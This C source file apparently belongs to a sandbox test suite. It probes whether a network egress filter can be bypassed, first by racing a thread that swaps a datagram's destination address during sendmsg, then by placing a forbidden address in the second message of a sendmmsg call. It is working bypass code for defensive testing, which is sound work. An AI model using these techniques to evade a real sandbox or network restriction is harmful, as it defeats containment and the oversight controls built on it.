/* A datagram whose address another thread changes while the call is made, and the second message of one call: what a
 * check that reads the caller's memory once more than the kernel does lets through (B11, field report N20). */
#include "attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/socket.h>
#include <time.h>

static struct sockaddr_in shared;
static in_addr_t good, bad;
static atomic_bool over;

static void *flip(void *unused)
{
    (void)unused;
    while (!over) {
        shared.sin_addr.s_addr = good;
        shared.sin_addr.s_addr = bad;
    }
    return NULL;
}

/* heard looks for an answer of the forbidden server, for so many milliseconds of silence. */
static bool heard(int s, const char *from, int wait)
{
    char answer[64];
    struct pollfd p = {s, POLLIN, 0};
    struct sockaddr_in who = {0};
    socklen_t size = sizeof who;
    while (poll(&p, 1, wait) > 0) {
        if (recvfrom(s, answer, sizeof answer, MSG_DONTWAIT, (void *)&who, &size) >= 0 && who.sin_addr.s_addr == inet_addr(from))
            return true;
    }
    return false;
}

/* args: an address that may be written to, one that may not, their port */
void messages(char **args, int count)
{
    if (count != 3)
        usage("messages ALLOWED FORBIDDEN PORT");
    good = inet_addr(args[0]), bad = inet_addr(args[1]);
    shared = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(args[2])), .sin_addr.s_addr = good};
    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    pthread_t other;
    pthread_create(&other, NULL, flip, NULL);
    struct iovec part = {"changed", 7};
    struct msghdr one = {.msg_name = &shared, .msg_namelen = sizeof shared, .msg_iov = &part, .msg_iovlen = 1};
    bool out = false;
    time_t end = time(NULL) + 5; /* the two threads may have one processor between them */
    for (int i = 0; !out && (i < 20000 || time(NULL) < end); i++) {
        sendmsg(s, &one, MSG_DONTWAIT);
        if (i % 64 == 0)
            out = heard(s, args[1], 0);
        if (i % 256 == 0)
            sched_yield();
    }
    over = true;
    pthread_join(other, NULL);
    if (out || heard(s, args[1], 500))
        escaped("an address that changes", "the forbidden server answered");
    else
        held("an address that changes", "nothing of the forbidden server's");
    close(s);

    s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in to[2] = {shared, shared};
    to[0].sin_addr.s_addr = good, to[1].sin_addr.s_addr = bad;
    struct iovec second = {"second", 6};
    struct mmsghdr two[2] = {
        {.msg_hdr = {.msg_name = &to[0], .msg_namelen = sizeof to[0], .msg_iov = &part, .msg_iovlen = 1}},
        {.msg_hdr = {.msg_name = &to[1], .msg_namelen = sizeof to[1], .msg_iov = &second, .msg_iovlen = 1}},
    };
    int sent = sendmmsg(s, two, 2, 0);
    if (heard(s, args[1], 1000))
        escaped("the second of two messages", "the forbidden server answered");
    else
        held("the second of two messages", "%d were sent, nothing of the forbidden server's", sent);
    close(s);
}
